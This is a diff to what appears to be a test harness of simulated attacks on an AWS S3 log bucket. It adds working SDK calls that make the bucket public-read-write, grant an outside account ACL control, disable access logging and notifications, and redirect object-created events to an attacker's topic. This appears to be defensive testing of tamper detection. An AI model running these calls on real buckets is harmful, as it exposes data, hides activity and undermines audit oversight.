@@ -4,12 +4,18 @@ import {
   DeleteBucketOwnershipControlsCommand,
   DeleteBucketPolicyCommand,
   DeletePublicAccessBlockCommand,
+  GetBucketAclCommand,
+  PutBucketAclCommand,
+  PutBucketLoggingCommand,
+  PutBucketNotificationConfigurationCommand,
   PutBucketRequestPaymentCommand,
   PutPublicAccessBlockCommand,
 } from '@aws-sdk/client-s3';
 import type { Attack } from './attack.ts';
 import type { Clients } from './clients.ts';
 import { editPolicy, encryptWith, expire, ownObjects, setVersioning } from './log-bucket.ts';
+import { canonicalId } from './s3/acls.ts';
+import { outsider, topicArn } from './seed.ts';
 
 /** An attack on a log bucket. */
 export type BucketAttack = Attack<Pick<Clients, 's3'>> & {
@@ -79,6 +85,32 @@ export const bucketAttacks: readonly BucketAttack[] = [
       ),
   },
   {
+    id: 'B8c',
+    title: 'lets everyone write to the bucket with an ACL',
+    fields: ['PublicAccessBlock', 'OwnershipControls', 'Acl'],
+    async call({ s3 }, Bucket) {
+      await s3.send(new DeletePublicAccessBlockCommand({ Bucket }));
+      await s3.send(ownObjects(Bucket, 'ObjectWriter'));
+      await s3.send(new PutBucketAclCommand({ Bucket, ACL: 'public-read-write' }));
+    },
+  },
+  {
+    id: 'B8d',
+    title: 'gives her own account the bucket with an ACL',
+    fields: ['OwnershipControls', 'Acl'],
+    async call({ s3 }, Bucket) {
+      await s3.send(ownObjects(Bucket, 'BucketOwnerPreferred'));
+      const { Owner, Grants = [] } = await s3.send(new GetBucketAclCommand({ Bucket }));
+      const Grantee = { Type: 'CanonicalUser' as const, ID: canonicalId(outsider.accountId) };
+      await s3.send(
+        new PutBucketAclCommand({
+          Bucket,
+          AccessControlPolicy: { Owner, Grants: [...Grants, { Grantee, Permission: 'WRITE_ACP' }] },
+        }),
+      );
+    },
+  },
+  {
     id: 'B9a',
     title: 'lets access control lists apply',
     fields: ['OwnershipControls'],
@@ -130,6 +162,41 @@ export const bucketAttacks: readonly BucketAttack[] = [
         new PutBucketRequestPaymentCommand({
           Bucket,
           RequestPaymentConfiguration: { Payer: 'Requester' },
+        }),
+      ),
+  },
+  {
+    id: 'B10a',
+    title: 'stops logging who uses the bucket',
+    fields: ['Logging'],
+    call: ({ s3 }, Bucket) =>
+      s3.send(new PutBucketLoggingCommand({ Bucket, BucketLoggingStatus: {} })),
+  },
+  {
+    id: 'B10b',
+    title: 'stops notifying anyone of log files',
+    fields: ['Notifications'],
+    call: ({ s3 }, Bucket) =>
+      s3.send(
+        new PutBucketNotificationConfigurationCommand({ Bucket, NotificationConfiguration: {} }),
+      ),
+  },
+  {
+    id: 'B10c',
+    title: 'notifies her own topic of log files',
+    fields: ['Notifications'],
+    call: ({ s3 }, Bucket) =>
+      s3.send(
+        new PutBucketNotificationConfigurationCommand({
+          Bucket,
+          NotificationConfiguration: {
+            TopicConfigurations: [
+              {
+                TopicArn: topicArn.replace('org-trail-delivered', 'attackers-topic'),
+                Events: ['s3:ObjectCreated:*'],
+              },
+            ],
+          },
         }),
       ),
   },
